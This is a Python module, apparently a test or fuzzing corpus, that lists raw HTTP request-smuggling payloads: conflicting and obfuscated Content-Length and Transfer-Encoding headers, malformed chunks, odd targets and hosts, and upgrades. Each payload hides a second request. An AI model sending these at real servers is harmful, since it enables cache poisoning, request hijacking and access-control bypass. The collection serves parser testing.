"""Bytes that two servers may cut into different requests, each with a second one hidden in it.

The names follow the literature: the first two letters are what the front believes, then the back.
"""

SECOND = b"GET /second HTTP/1.1\r\nhost: evil\r\n\r\n"
_POST = b"POST /x HTTP/1.1\r\nhost: a\r\n"
_GET = b"GET /x HTTP/1.1\r\nhost: a\r\n"


def _both(length: bytes, coding: bytes, body: bytes) -> bytes:
    return _POST + length + b"\r\n" + coding + b"\r\n\r\n" + body


def _chunked(body: bytes, head: bytes = b"") -> bytes:
    return _POST + head + b"transfer-encoding: chunked\r\n\r\n" + body


def _coding(line: bytes) -> bytes:
    """A strange coding: read as chunked the body ends before SECOND, else it is SECOND."""
    return _POST + line + b"\r\n\r\n" + b"0\r\n\r\n" + SECOND


def _length(*lines: bytes) -> bytes:
    return _POST + b"".join(line + b"\r\n" for line in lines) + b"\r\n" + b"abc" + SECOND


def _head(*lines: bytes) -> bytes:
    return b"".join(line + b"\r\n" for line in lines) + b"\r\n" + SECOND


_ZERO_THEN = b"0\r\n\r\n" + SECOND
_WRAPPED = b"%x\r\n%b\r\n0\r\n\r\n" % (len(SECOND), SECOND)

LENGTH_AND_CODING = {
    "CL.TE": _both(b"content-length: 41", b"transfer-encoding: chunked", _ZERO_THEN),
    "TE.CL": _both(b"content-length: 4", b"transfer-encoding: chunked", _WRAPPED),
    "TE before CL": _both(b"transfer-encoding: chunked", b"content-length: 4", _WRAPPED),
    "CL.0 with a coding": _both(b"content-length: 0", b"transfer-encoding: chunked", _ZERO_THEN),
    "CL and identity": _both(b"content-length: 3", b"transfer-encoding: identity", b"abc" + SECOND),
    "CL and an empty coding": _both(b"content-length: 3", b"transfer-encoding:", b"abc" + SECOND),
}
CODINGS = {
    "TE twice, the same": _coding(b"transfer-encoding: chunked\r\ntransfer-encoding: chunked"),
    "TE twice, identity last": _coding(
        b"transfer-encoding: chunked\r\ntransfer-encoding: identity"
    ),
    "TE twice, chunked last": _coding(b"transfer-encoding: x\r\ntransfer-encoding: chunked"),
    "TE chunked, chunked": _coding(b"transfer-encoding: chunked, chunked"),
    "TE chunked, identity": _coding(b"transfer-encoding: chunked, identity"),
    "TE identity, chunked": _coding(b"transfer-encoding: identity, chunked"),
    "TE with an empty element": _coding(b"transfer-encoding: ,chunked"),
    "TE in capitals": _coding(b"TRANSFER-ENCODING: CHUNKED"),
    "TE after a tab": _coding(b"transfer-encoding:\tchunked"),
    "TE before a tab": _coding(b"transfer-encoding: chunked\t"),
    "TE after a vertical tab": _coding(b"transfer-encoding:\x0bchunked"),
    "TE after a form feed": _coding(b"transfer-encoding: \x0cchunked"),
    "TE before a null": _coding(b"transfer-encoding: chunked\x00"),
    "TE in quotes": _coding(b'transfer-encoding: "chunked"'),
    "TE with a parameter": _coding(b"transfer-encoding: chunked;q=1"),
    "TE with a bare CR": _coding(b"transfer-encoding:\rchunked"),
    "TE folded": _coding(b"transfer-encoding:\r\n chunked"),
    "TE folded before the colon": _coding(b"transfer-encoding\r\n : chunked"),
    "TE before a blank": _coding(b"transfer-encoding : chunked"),
    "TE with a null in its name": _coding(b"transfer\x00-encoding: chunked"),
    "TE with a high byte in its name": _coding(b"transfer-encoding\xff: chunked"),
    "TE with a line feed before it": _coding(b"x: y\ntransfer-encoding: chunked"),
    "TE hidden behind a bare CR": _coding(b"x: y\rtransfer-encoding: chunked"),
    "TE after a blank line start": _coding(b" transfer-encoding: chunked"),
    "TE in Connection": _coding(b"connection: transfer-encoding\r\ntransfer-encoding: chunked"),
    "TE unknown": _coding(b"transfer-encoding: cow"),
    "TE empty": _coding(b"transfer-encoding: "),
    "TE spelled with an S": _coding(b"transfer-encodings: chunked"),
    "TE in HTTP/1.0": _coding(b"transfer-encoding: chunked").replace(b"HTTP/1.1", b"HTTP/1.0", 1),
}
LENGTHS = {
    "CL twice, equal": _length(b"content-length: 3", b"content-length: 3"),
    "CL twice, the second longer": _length(b"content-length: 3", b"content-length: 39"),
    "CL twice, the first zero": _length(b"content-length: 0", b"content-length: 3"),
    "CL as a list": _length(b"content-length: 3, 39"),
    "CL negative": _length(b"content-length: -3"),
    "CL in octal": _length(b"content-length: 0o3"),
    "CL with leading zeros": _length(b"content-length: 0003"),
    "CL with a fraction": _length(b"content-length: 3.0"),
    "CL with an exponent": _length(b"content-length: 3e0"),
    "CL with an inner blank": _length(b"content-length: 3 9"),
    "CL with an underscore": _length(b"content-length: 3_9"),
    "CL over 64 bits": _length(b"content-length: 18446744073709551619"),
    "CL of Arabic digits": _length("content-length: ٣".encode()),
    "CL empty": _length(b"content-length:"),
    "CL before a null": _length(b"content-length: 3\x00"),
    "CL before a blank": _length(b"content-length : 3"),
    "CL folded": _length(b"content-length:\r\n 3"),
    "CL in Connection": _length(b"connection: content-length", b"content-length: 3"),
    "CL with a GET": _GET + b"content-length: %d\r\n\r\n" % len(SECOND) + SECOND,
    "CL of a HEAD": b"HEAD /x HTTP/1.1\r\nhost: a\r\ncontent-length: 3\r\n\r\nabc" + SECOND,
    "no length": _POST + b"\r\n" + SECOND,
    "CL is all of the second": _POST + b"content-length: %d\r\n\r\n" % len(SECOND) + SECOND,
}
CHUNKS = {
    "chunk size with 0x": _chunked(b"0x3\r\nabc\r\n0\r\n\r\n" + SECOND),
    "chunk size with a sign": _chunked(b"+3\r\nabc\r\n0\r\n\r\n" + SECOND),
    "chunk size negative": _chunked(b"-1\r\nabc\r\n0\r\n\r\n" + SECOND),
    "chunk size empty": _chunked(b"\r\nabc\r\n0\r\n\r\n" + SECOND),
    "chunk size after a blank": _chunked(b" 3\r\nabc\r\n0\r\n\r\n" + SECOND),
    "chunk size before a blank": _chunked(b"3 \r\nabc\r\n0\r\n\r\n" + SECOND),
    "chunk size with leading zeros": _chunked(b"0" * 12 + b"3\r\nabc\r\n0\r\n\r\n" + SECOND),
    "chunk size over 64 bits": _chunked(b"1" + b"0" * 15 + b"3\r\nabc\r\n0\r\n\r\n" + SECOND),
    "chunk size that wraps": _chunked(b"f" * 16 + b"\r\nabc\r\n0\r\n\r\n" + SECOND),
    "chunk size with an underscore": _chunked(b"0_3\r\nabc\r\n0\r\n\r\n" + SECOND),
    "chunk ends with LF": _chunked(b"3\r\nabc\n0\r\n\r\n" + SECOND),
    "chunk size ends with LF": _chunked(b"3\nabc\r\n0\r\n\r\n" + SECOND),
    "chunk size ends with CR": _chunked(b"3\rabc\r\n0\r\n\r\n" + SECOND),
    "chunk longer than said": _chunked(b"3\r\nabcdef\r\n0\r\n\r\n" + SECOND),
    "chunk data without an end": _chunked(b"3\r\nabc0\r\n\r\n" + SECOND),
    "chunk extension": _chunked(b"3;a=b\r\nabc\r\n0\r\n\r\n" + SECOND),
    "chunk extension in quotes": _chunked(b'3;a="b;c"\r\nabc\r\n0\r\n\r\n' + SECOND),
    "chunk extension with LF": _chunked(b"3;a\n0\r\n\r\n" + SECOND + b"abc\r\n0\r\n\r\n"),
    "chunk extension with CR": _chunked(b"3;a\rb\r\nabc\r\n0\r\n\r\n" + SECOND),
    "chunk extension with a null": _chunked(b"3;\x00\r\nabc\r\n0\r\n\r\n" + SECOND),
    "chunk extension of 600 KB": _chunked(b"3;" + b"a" * 600_000 + b"\r\nabc\r\n0\r\n\r\n"),
    "last chunk of many zeros": _chunked(b"3\r\nabc\r\n0000\r\n\r\n" + SECOND),
    "last chunk without an end": _chunked(b"3\r\nabc\r\n0\r\n" + SECOND),
    "last chunk ends with LF": _chunked(b"3\r\nabc\r\n0\n\n" + SECOND),
    "a trailer": _chunked(b"3\r\nabc\r\n0\r\nx: y\r\n\r\n" + SECOND),
    "a length as trailer": _chunked(b"3\r\nabc\r\n0\r\ncontent-length: 40\r\n\r\n" + SECOND),
    "a coding as trailer": _chunked(
        b"3\r\nabc\r\n0\r\ntransfer-encoding: chunked\r\n\r\n" + SECOND
    ),
    "a host as trailer": _chunked(b"3\r\nabc\r\n0\r\nhost: b\r\n\r\n" + SECOND),
    "a bad trailer": _chunked(b"3\r\nabc\r\n0\r\nx y\r\n\r\n" + SECOND),
    "a trailer of 100 KB": _chunked(b"3\r\nabc\r\n0\r\nx: " + b"y" * 100_000 + b"\r\n\r\n"),
}
TARGETS = {
    "absolute form, another host": _head(b"GET http://b/x HTTP/1.1", b"host: a"),
    "absolute form, user and port": _head(b"GET http://a@b:1/x HTTP/1.1", b"host: a"),
    "authority form": _head(b"GET b:80 HTTP/1.1", b"host: a"),
    "CONNECT": _head(b"CONNECT b:80 HTTP/1.1", b"host: b"),
    "two slashes and a host": _head(b"GET //b/x HTTP/1.1", b"host: a"),
    "a fragment": _head(b"GET /x#y HTTP/1.1", b"host: a"),
    "a blank in the target": _head(b"GET /x y HTTP/1.1", b"host: a"),
    "a tab in the target": _head(b"GET /x\ty HTTP/1.1", b"host: a"),
    "a null in the target": _head(b"GET /x\x00y HTTP/1.1", b"host: a"),
    "an encoded line end": _head(b"GET /x%0d%0ax:y HTTP/1.1", b"host: a"),
    "an encoded request in the query": _head(b"GET /x?%20HTTP/1.1%0d%0a HTTP/1.1", b"host: a"),
    "a high byte in the target": _head(b"GET /x\xff HTTP/1.1", b"host: a"),
    "two blanks": _head(b"GET  /x HTTP/1.1", b"host: a"),
    "a blank after the version": _head(b"GET /x HTTP/1.1 ", b"host: a"),
    "a tab for a blank": _head(b"GET\t/x HTTP/1.1", b"host: a"),
    "HTTP/0.9": b"GET /x\r\n" + SECOND,
    "HTTP/1.2": _head(b"GET /x HTTP/1.2", b"host: a"),
    "HTTP/2.0": _head(b"GET /x HTTP/2.0", b"host: a"),
    "HTTP/01.1": _head(b"GET /x HTTP/01.1", b"host: a"),
    "http in small letters": _head(b"GET /x http/1.1", b"host: a"),
    "a method in small letters": _head(b"get /x HTTP/1.1", b"host: a"),
    "a method nobody knows": _head(b"SMUGGLE /x HTTP/1.1", b"host: a"),
    "empty lines first": b"\r\n\r\n" + _head(b"GET /x HTTP/1.1", b"host: a"),
    "a bare LF first": b"\n" + _head(b"GET /x HTTP/1.1", b"host: a"),
}
HOSTS = {
    "no host": _head(b"GET /x HTTP/1.1", b"x: y"),
    "two hosts": _head(b"GET /x HTTP/1.1", b"host: a", b"host: b"),
    "an empty host": _head(b"GET /x HTTP/1.1", b"host:"),
    "a host with a path": _head(b"GET /x HTTP/1.1", b"host: a/b"),
    "a host with a user": _head(b"GET /x HTTP/1.1", b"host: a@b"),
    "two hosts in a line": _head(b"GET /x HTTP/1.1", b"host: a, b"),
    "a host with a blank": _head(b"GET /x HTTP/1.1", b"host: a b"),
    "a folded host": _head(b"GET /x HTTP/1.1", b"host: a", b" b"),
    "a blank before the host's colon": _head(b"GET /x HTTP/1.1", b"host : b", b"host: a"),
    "a host in Connection": _head(b"GET /x HTTP/1.1", b"connection: host", b"host: a"),
}
LINES = {
    "a header without a colon": _head(b"GET /x HTTP/1.1", b"host: a", b"xyz"),
    "a header without a name": _head(b"GET /x HTTP/1.1", b"host: a", b": y"),
    "a blank in a header's name": _head(b"GET /x HTTP/1.1", b"host: a", b"x y: z"),
    "a null in a value": _head(b"GET /x HTTP/1.1", b"host: a", b"x: a\x00b"),
    "a control character in a value": _head(b"GET /x HTTP/1.1", b"host: a", b"x: a\x01b"),
    "LF ends the head": b"GET /x HTTP/1.1\r\nhost: a\n\n" + SECOND,
    "LF CR LF ends the head": b"GET /x HTTP/1.1\r\nhost: a\n\r\n" + SECOND,
    "CR CR LF": b"GET /x HTTP/1.1\r\nhost: a\r\r\n\r\n" + SECOND,
    "a request in a value": _head(b"GET /x HTTP/1.1", b"host: a", b"x: GET /second HTTP/1.1"),
    "a bare CR splits a value": _head(b"GET /x HTTP/1.1", b"host: a", b"x: y\r\rGET /second"),
}
CONNECTIONS = {
    "two requests": _GET + b"\r\n" + SECOND,
    "a close, then another": _GET + b"connection: close\r\n\r\n" + SECOND,
    "an upgrade to h2c": _GET
    + b"connection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AA\r\n\r\n"
    + SECOND,
    "an upgrade with a body": _POST
    + b"connection: upgrade\r\nupgrade: h2c\r\ncontent-length: 3\r\n\r\nabc"
    + SECOND,
    "an upgrade to websocket": _GET
    + b"connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n"
    + b"sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
    + SECOND,
    "expects to continue": _POST + b"expect: 100-continue\r\ncontent-length: 3\r\n\r\nabc" + SECOND,
    "expects something odd": _POST + b"expect: x\r\ncontent-length: 3\r\n\r\nabc" + SECOND,
    "HTTP/1.0 kept alive": _GET.replace(b"1.1", b"1.0")
    + b"connection: keep-alive\r\n\r\n"
    + SECOND,
    "an HTTP/2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SECOND,
    "a TLS hello": b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + SECOND,
    "a PROXY line first": b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + _GET + b"\r\n",
}
PAYLOADS: dict[str, bytes] = {
    **LENGTH_AND_CODING,
    **CODINGS,
    **LENGTHS,
    **CHUNKS,
    **TARGETS,
    **HOSTS,
    **LINES,
    **CONNECTIONS,
}
